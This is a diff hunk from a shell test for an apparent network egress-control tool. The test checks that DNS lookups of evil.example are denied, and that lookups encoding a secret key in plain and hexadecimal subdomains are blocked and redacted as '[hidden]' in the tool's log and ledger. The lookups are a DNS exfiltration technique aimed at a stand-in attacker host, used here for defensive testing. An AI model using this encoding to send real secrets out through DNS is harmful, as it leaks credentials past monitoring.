@@ -180,7 +180,9 @@ asked() { inside "getent hosts '$1'; true" >/dev/null; }
 asked evil.example
 asked "$(printf %s "$key" | tr '[:upper:]' '[:lower:]').evil.example"
 asked "$(printf %s "$key" | od -An -tx1 | tr -d ' \n' | cut -c1-40).$(printf %s "$key" | od -An -tx1 | tr -d ' \n' | cut -c41-).evil.example"
-tailed=$("$ASSAY" egress tail "$env" --once)
+# A row comes after the answer.
+has_hidden() { tailed=$("$ASSAY" egress tail "$env" --once); [ "$(grep -c '\[hidden\].evil.example resolve' <<<"$tailed")" -ge 2 ]; }
+until_true 20 has_hidden
 like 'item 52: a name that does not resolve is in the tail' "$tailed" 'evil.example resolve .*denied: no rule allows it'
 is 'one that carries a secret is hidden there, as it was and in hexadecimal' "$(grep -c '\[hidden\].evil.example resolve' <<<"$tailed") $(grep -ciF "${key:0:20}" <<<"$tailed")" '2 0'
 is 'both are in the ledger' "$("$ASSAY" ledger search --env "$env" --kind verdict --json | jq -r '[.items[] | select(.method == "resolve") | "\(.kind) \(.method) \(.host) \(.rule)"] | sort | unique | join("; ")')" \
